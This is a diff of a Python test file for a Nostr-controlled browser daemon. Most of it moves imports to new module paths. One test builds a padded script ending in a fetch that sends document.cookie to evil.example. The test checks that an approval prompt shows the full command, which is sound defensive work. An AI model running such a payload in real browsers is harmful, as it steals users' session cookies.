@@ -6,7 +6,7 @@ import re
 
 import pytest
 
-from nostr_browserd.commands.catalog import REGISTRY
+from nostr_browserd.catalog import REGISTRY
 from nostr_browserd.commands.protocol import is_text
 from nostr_browserd.daemon.dispatch import APPROVAL, permits
 from nostr_browserd.errors import BrowserdError
@@ -65,7 +65,7 @@ def test_text_or_json():
 
 
 def test_an_approval_prompt_is_whole_or_in_parts_never_cut():
-    from nostr_browserd.daemon.dispatch import APPROVAL_MAX_PARTS, approval_messages
+    from nostr_browserd.daemon.consent import APPROVAL_MAX_PARTS, approval_messages
     from nostr_browserd.errors import ErrorCode
 
     short = approval_messages("agent", 'eval {"script": "1+1"}', "K7Q2XM", 60)
@@ -85,9 +85,9 @@ def test_an_approval_prompt_is_whole_or_in_parts_never_cut():
 async def test_the_approver_is_shown_the_whole_command_and_what_will_be_typed():
     from types import SimpleNamespace
 
-    from nostr_browserd.commands.catalog import REGISTRY
+    from nostr_browserd.catalog import REGISTRY
     from nostr_browserd.commands.protocol import Request
-    from nostr_browserd.daemon.dispatch import describe_action
+    from nostr_browserd.daemon.consent import describe_action
 
     blank = SimpleNamespace(page_or_none=None)
     script = "document.title; " * 40 + "fetch('https://evil.example/?c=' + document.cookie)"
@@ -110,7 +110,7 @@ async def test_the_approver_is_shown_the_whole_command_and_what_will_be_typed():
 async def test_a_refused_kind_4_does_not_switch_the_reply_scheme(tmp_path):
     from nostr_browserd.browser.session import BrowserPool
     from nostr_browserd.daemon.config import ControllerConfig
-    from nostr_browserd.daemon.inbox import Incoming
+    from nostr_browserd.dm.messages import Incoming
     from nostr_browserd.errors import ErrorCode
     from tests.fixtures.browser import local_dispatcher
 
@@ -206,7 +206,7 @@ async def test_logged_out_every_transport_gets_not_logged_in_but_the_login_tools
 async def test_a_command_that_fails_past_its_reply_does_not_stop_its_controllers_queue(tmp_path):
     from nostr_browserd.browser.session import BrowserPool
     from nostr_browserd.daemon.config import ControllerConfig
-    from nostr_browserd.daemon.inbox import Incoming
+    from nostr_browserd.dm.messages import Incoming
     from tests.fixtures.browser import local_dispatcher
 
     pk = "ab" * 32
@@ -245,7 +245,7 @@ async def test_a_command_is_held_before_it_runs_and_a_failed_hold_is_answered_in
     disk, a lost database) answers its command UNAVAILABLE, unrun, between its neighbours."""
     from nostr_browserd.browser.session import BrowserPool
     from nostr_browserd.daemon.config import ControllerConfig
-    from nostr_browserd.daemon.inbox import Incoming
+    from nostr_browserd.dm.messages import Incoming
     from nostr_browserd.errors import ErrorCode
     from tests.fixtures.browser import local_dispatcher
 
@@ -286,7 +286,7 @@ async def test_a_waiting_approval_is_in_the_store_under_its_worker_until_decided
     """Every worker reads the approver's answer: the store says whose command waits for it."""
     from nostr_browserd.browser.session import BrowserPool
     from nostr_browserd.daemon.config import ControllerConfig
-    from nostr_browserd.daemon.inbox import Incoming
+    from nostr_browserd.dm.messages import Incoming
     from nostr_browserd.nostr.signer import KeySigner
     from tests.fixtures.browser import local_dispatcher
 
